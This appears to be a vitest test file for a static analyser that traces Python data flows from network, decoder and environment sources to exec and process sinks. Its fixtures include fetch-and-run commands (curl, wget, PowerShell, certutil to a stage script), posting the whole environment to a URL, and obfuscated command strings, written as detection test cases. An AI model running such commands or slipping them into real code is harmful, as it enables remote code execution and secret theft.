import { expect, test } from 'vitest';
import { read } from './reading.js';

const flowsIn = async (text: string) => (await read(text)).facts?.flows({ from: ['decoder', 'network', 'credentials', 'environment'], to: ['exec', 'process', 'network'] }) ?? [];
const commandIn = async (text: string) => (await read(`import os\n${text}`)).facts?.calls('process')[0]?.text;

test('a flow tells every step from its source to its sink', async () => {
  const [flow] = await flowsIn('from base64 import b64decode as d\ndef unpack(text):\n    return d(text)\ncode = unpack(X)\nexec(code)\n');
  expect(flow).toMatchObject({ from: 'decoder', to: 'exec', when: 'import', through: 'value', source: { name: 'base64.b64decode', line: 3 }, sink: { name: 'exec', line: 5 } });
  expect(flow?.steps.map((step) => `${step.line}: ${step.what}`)).toEqual([
    '3: base64.b64decode gives it',
    '4: returned by unpack()',
    '4: assigned to code',
    '5: reaches exec',
  ]);
});

test.each([
  ['a dict entry', 'd["k"] = requests.get(u).text\nexec(d["k"])'],
  ['a list', 'd = []\nd.append(requests.get(u).text)\nexec(d[0])'],
  ['an attribute', 'class A: pass\na = A()\na.x = requests.get(u).text\nexec(a.x)'],
  ['a walrus', 'if (t := requests.get(u).text):\n    exec(t)'],
  ['a with block', 'with requests.get(u) as r:\n    exec(r.text)'],
  ['a loop', 'for line in requests.get(u).iter_lines():\n    exec(line)'],
  ['a tuple', 'a, b = requests.get(u).text, 1\nexec(a)'],
  ['a global', 'def f():\n    global t\n    t = requests.get(u).text\nf()\nexec(t)'],
  ['an f-string', 'exec(f"{requests.get(u).text}")'],
  ['a session', 's = requests.Session()\nexec(s.get(u).text)'],
  ['a closure', 'def f():\n    t = requests.get(u).text\n    def g():\n        exec(t)\n    g()\nf()'],
])('data flows through %s', async (_, text) => {
  expect(await flowsIn(`import requests\nd = {}\n${text}\n`)).toMatchObject([{ from: 'network', to: 'exec' }]);
});

test.each([
  ['a name that was given another value', 'code = d(x)\ncode = "1"\nexec(code)'],
  ['a comparison', 'if d(x) == "y":\n    exec("1")'],
  ['a function with the name of a sink', 'class A:\n    def exec(self, c): pass\nA().exec(d(x))'],
  ['a parameter with the name of a sink', 'def f(exec):\n    exec(d(x))'],
  ['namespace arguments', 'exec("1", {"k": d(x)})'],
])('nothing flows through %s', async (_, text) => {
  expect(await flowsIn(`from base64 import b64decode as d\n${text}\n`)).toEqual([]);
});

test('a file that is fetched and then run is one flow', async () => {
  const flows = await flowsIn('import os, urllib.request\nurllib.request.urlretrieve(u, "/tmp/stage.sh")\nos.system("sh /tmp/stage.sh")\n');
  expect(flows).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
});

test.each([
  ['curl', 'curl -sL https://example.invalid/x -o /tmp/stage.sh', 'sh /tmp/stage.sh'],
  ['wget', 'wget -qO /tmp/stage.sh https://example.invalid/x', 'sh /tmp/stage.sh'],
  ['PowerShell', 'powershell -c iwr https://example.invalid/x -OutFile C:\\\\stage.ps1', 'powershell -File C:\\\\stage.ps1'],
  ['certutil', 'certutil -urlcache -f https://example.invalid/x stage.exe', 'stage.exe'],
  ['git', 'git clone https://example.invalid/x.git ./stage', 'bash ./stage/run.sh'],
])('a file that %s fetches in one call and another call starts is one flow', async (_, fetch, start) => {
  expect(await flowsIn(`import os\nos.system("${fetch}")\nos.system("${start}")\n`)).toMatchObject([{ from: 'network', to: 'process', through: 'file', sink: { line: 3 } }]);
});

test.each([
  ['a command that only fetches', 'os.system("curl https://example.invalid/x -o /tmp/stage.sh")'],
  ['a command whose reply is shown', 'os.system("curl https://example.invalid/x -o -")\nos.system("ls -l")'],
  ['another file', 'os.system("curl https://example.invalid/x -o /tmp/stage.sh")\nos.system("sh /tmp/other.sh")'],
])('%s is no flow', async (_, text) => {
  expect(await flowsIn(`import os\n${text}\n`)).toEqual([]);
});

test('a file that was fetched is the same under another name', async () => {
  const text = 'import os, shutil, urllib.request\nurllib.request.urlretrieve(u, "/tmp/stage.sh")\nshutil.move("/tmp/stage.sh", "/tmp/quiet.sh")\nos.system("sh /tmp/quiet.sh")\n';
  expect(await flowsIn(text)).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
});

test('one environment variable is not the whole environment', async () => {
  expect(await flowsIn('import os, requests\nrequests.get(u, headers={"t": os.environ["T"], "v": os.environ.get("V")})\n')).toEqual([]);
  expect(await flowsIn('import os, requests\nrequests.post(u, json=dict(os.environ))\n')).toMatchObject([{ from: 'environment' }]);
});

test.each([
  ['os.system("cu" + "rl")', 'curl'],
  ['os.system("%s -s %s" % ("curl", "x"))', 'curl -s x'],
  ['os.system("{} {}".format("curl", "x"))', 'curl x'],
  ['os.system(f"curl {unknown}")', 'curl {}'],
  ['os.system("lruc"[::-1])', 'curl'],
  ['os.system("".join(["c", "url"]))', 'curl'],
  ['os.system(chr(99) + chr(100 + 17) + "rl")', 'curl'],
  ['os.system("\\x63\\165rl")', 'curl'],
  ['os.system("cXrl".replace("X", "u"))', 'curl'],
  ['import subprocess\nsubprocess.run(["curl", "-s", unknown])', 'curl -s {}'],
  ['words = "curl x".split()\nos.popen(words[0])', 'curl'],
])('%s starts %j', async (text, command) => {
  expect(await commandIn(text)).toBe(command);
});

test.each([
  ['appended to', 'cmd = ["tar"]\ncmd.append("-x")\ncmd.append(name)\nos.system(cmd)', 'tar -x {}'],
  ['extended', 'cmd = ["tar"]\ncmd.extend(["-x", "-f"])\ncmd.extend(names)\nos.system(cmd)', 'tar -x -f {}'],
  ['added to what is not known', 'os.system(tool + ["-x"])', '{} -x'],
])('the words of a command are known that are %s', async (_, text, command) => {
  expect(await commandIn(text)).toBe(command);
});
